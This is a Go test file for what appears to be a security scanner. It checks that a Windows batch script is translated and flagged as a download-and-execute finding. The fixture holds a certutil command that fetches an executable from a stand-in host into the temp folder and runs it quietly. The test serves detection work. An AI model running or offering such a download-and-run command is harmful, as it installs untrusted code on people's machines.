package secscan

import (
	"strings"
	"testing"
)

func TestBatchShell(t *testing.T) {
	src := "@echo off\r\nset U=http://h.example/a.exe\r\ncertutil -urlcache -split -f %U% %TEMP%\\a.exe >nul\r\nstart \"\" /wait \"%TEMP%\\a.exe\" /quiet\r\nrem done\r\n"
	text, at := batchShell([]byte(src))
	want := []string{"", "U='http://h.example/a.exe'", "certutil -urlcache -split -f ${U} ${TEMP}/a.exe >/dev/null", `"${TEMP}/a.exe" /quiet`, "", ""}
	got := strings.Split(text, "\n")
	for i, w := range want {
		if i >= len(got) || got[i] != w {
			t.Fatalf("line %d = %q, want %q (text %q)", i, got[i], w, text)
		}
	}
	// Line starts map back exactly; columns are clamped to the line.
	third := strings.Index(text, "certutil")
	if o := at(third); o != strings.Index(src, "certutil") {
		t.Errorf("at(line 3) = %d, want %d", o, strings.Index(src, "certutil"))
	}
	if o := at(len(text)); o > len(src) {
		t.Errorf("at(end) = %d, past the source (%d)", o, len(src))
	}
	if fs := ScanResult(Input{Src: []byte(src), Rel: "scripts/update.cmd"}).Findings; len(fs) == 0 || fs[0].Rule != DownloadExec {
		t.Errorf("findings %+v, want a download run", fs)
	}
}
